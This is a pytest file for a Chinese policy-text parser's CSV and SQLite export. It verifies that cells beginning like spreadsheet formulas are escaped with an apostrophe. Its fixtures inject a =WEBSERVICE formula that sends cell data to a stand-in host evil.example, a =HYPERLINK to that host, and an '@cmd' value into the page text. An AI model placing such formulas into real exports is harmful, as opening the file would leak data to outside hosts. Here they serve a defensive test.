"""Text from the page never runs as a formula in the analyst's spreadsheet (OWASP, "CSV Injection")."""

from __future__ import annotations

import csv
import datetime as dt
from decimal import Decimal
from pathlib import Path

import pytest
from typer.testing import CliRunner

from bozhou_tasks.cli import app
from bozhou_tasks.export.tables import csv_cell

from .conftest import PAGE_TXT

runner = CliRunner()

HEADLINE = '=HYPERLINK("http://evil.example/","点此查看")促进重点群体稳定就业'
BODY = '=WEBSERVICE("http://evil.example/?"&A1)深入实施稳就业提质扩量服务'
HEADLINE_REST = (
    ",城镇新增就业3.5万人左右,其中涡阳县8700人左右,蒙城县8700人左右,利辛县8700人左右,谯城区8900人左右;"
    "“三公里”充分就业社区数量达到城市社区的60%。"
)
BODY_REST = (
    "“家门口”就业行动,常态化组织“2+N”招聘活动,健全完善村(社区)“一台一表一专栏”(就业服务台、岗位推荐登记表、"
    "企业招工宣传栏),持续提升基层公共就业服务能力。"
)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+86 558 5555258", "'+86 558 5555258"),
        ("-1.", "'-1."),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1d1+2", "'\uff1d1+2"),
        ("\uff20cmd", "'\uff20cmd"),
        ("市残联", "市残联"),
        ("1+1=2", "1+1=2"),
        ("", ""),
        (Decimal("-3.5"), "-3.5"),
        (-7, "-7"),
        (True, "true"),
        (dt.date(2024, 3, 28), "2024-03-28"),
        (None, ""),
    ],
    ids=repr,
)
def test_text_that_starts_like_a_formula_gets_an_apostrophe(value: object, written: str) -> None:
    assert csv_cell(value) == written  # type: ignore[arg-type]


@pytest.fixture(scope="module")
def hostile_dataset(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("formulas")
    page = PAGE_TXT.read_text(encoding="utf-8")
    page = page.replace("(一)促进重点群体稳定就业", f"(一){HEADLINE}", 1)
    page = page.replace("(牵头单位:市人力资源社会保障局)", "(牵头单位:@cmd)", 1)
    page = page.replace("1.深入实施稳就业提质扩量服务", f"1.{BODY}", 1)
    (folder / "hostile.txt").write_text(page, encoding="utf-8")
    parsed = runner.invoke(app, ["parse", str(folder / "hostile.txt"), "-o", str(folder / "structured")])
    assert parsed.exit_code == 0, parsed.output
    return folder / "structured" / "hostile.json"


def _row(path: Path, **key: str) -> dict[str, str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return next(row for row in csv.DictReader(handle) if all(row[k] == v for k, v in key.items()))


@pytest.mark.parametrize("excel", [False, True], ids=["utf-8", "excel"])
def test_page_text_in_the_csvs_cannot_run(hostile_dataset: Path, tmp_path: Path, excel: bool) -> None:
    result = runner.invoke(
        app, ["export", str(hostile_dataset), "-o", str(tmp_path), "-f", "csv", *(["--excel"] if excel else [])]
    )
    assert result.exit_code == 0, result.output
    item = _row(tmp_path / "items.csv", item="1")
    assert item["headline"] == f"'{HEADLINE}{HEADLINE_REST}"
    assert item["text"] == f"(一){HEADLINE}{HEADLINE_REST}(牵头单位:@cmd)"  # starts with '(': read as text
    assert item["span_start"] == "678"  # numbers stay numbers
    assert _row(tmp_path / "lead_units.csv", item="1")["lead_unit"] == "'@cmd"
    measure = _row(tmp_path / "measures.csv", item="1", measure="1")
    assert measure["body"] == f"'{BODY}{BODY_REST}"
    assert measure["text"] == f"1.{BODY}{BODY_REST}"


def test_the_sqlite_export_keeps_the_text_as_it_is(hostile_dataset: Path, tmp_path: Path) -> None:
    import sqlite3

    result = runner.invoke(app, ["export", str(hostile_dataset), "-o", str(tmp_path), "-f", "sqlite"])
    assert result.exit_code == 0, result.output
    with sqlite3.connect(tmp_path / "bz-tasks.sqlite") as db:
        (headline,) = db.execute("select headline from items where item = 1").fetchone()
    assert headline == HEADLINE + HEADLINE_REST
